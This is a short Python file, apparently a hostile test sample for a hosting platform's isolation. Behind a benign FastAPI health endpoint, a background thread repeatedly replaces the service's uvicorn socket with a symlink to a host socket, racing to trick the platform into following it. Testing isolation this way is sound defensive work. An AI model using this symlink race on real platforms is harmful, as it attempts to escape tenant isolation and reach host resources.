"""Replace uvicorn's socket with a symlink to a host socket, hoping the platform follows it."""

import os
import threading
import time
from pathlib import Path

from fastapi import FastAPI

TARGET = (Path(__file__).parent / "target.txt").read_text().strip()
SOCKET = "/run/servelab/service.sock"


def swap() -> None:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        try:
            if os.path.exists(SOCKET) and not os.path.islink(SOCKET):
                os.unlink(SOCKET)
                os.symlink(TARGET, SOCKET)
            elif not os.path.lexists(SOCKET):
                os.symlink(TARGET, SOCKET)
        except OSError:
            pass
        time.sleep(0.0005)


threading.Thread(target=swap, daemon=True).start()
app = FastAPI()


@app.get("/health")
def health() -> dict:
    return {"status": "ok"}
